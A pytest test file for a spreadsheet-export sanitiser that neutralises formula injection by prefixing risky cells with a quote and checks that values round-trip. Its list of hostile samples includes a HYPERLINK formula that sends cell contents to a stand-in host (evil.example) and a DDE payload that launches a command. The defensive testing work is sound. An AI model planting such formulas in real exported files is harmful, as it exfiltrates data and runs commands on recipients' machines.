"""portal.spreadsheet: no cell a spreadsheet would run as a formula, and the original text back."""

import pytest

from portal.spreadsheet import from_spreadsheet, safe_row, spreadsheet_safe

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "@SUM(A1:A9)",
           "+1+1", "-1+1", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_become_text(value):
    cell = spreadsheet_safe(value)
    assert cell == "'" + value
    assert from_spreadsheet(cell) == value


@pytest.mark.parametrize("value", ["", "Cardiff group", "'quoted", "''twice", "'=looks neutralised", "'", "a=b",
                                   "01632 960000", None, 42])
def test_every_value_comes_back_as_it_was(value):
    text = "" if value is None else str(value)
    assert from_spreadsheet(spreadsheet_safe(value)) == text
    assert not spreadsheet_safe(value).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_plain_cells_are_left_alone():
    assert safe_row(["Cardiff", 3, None, "'quoted"]) == ["Cardiff", "3", "", "'quoted"]
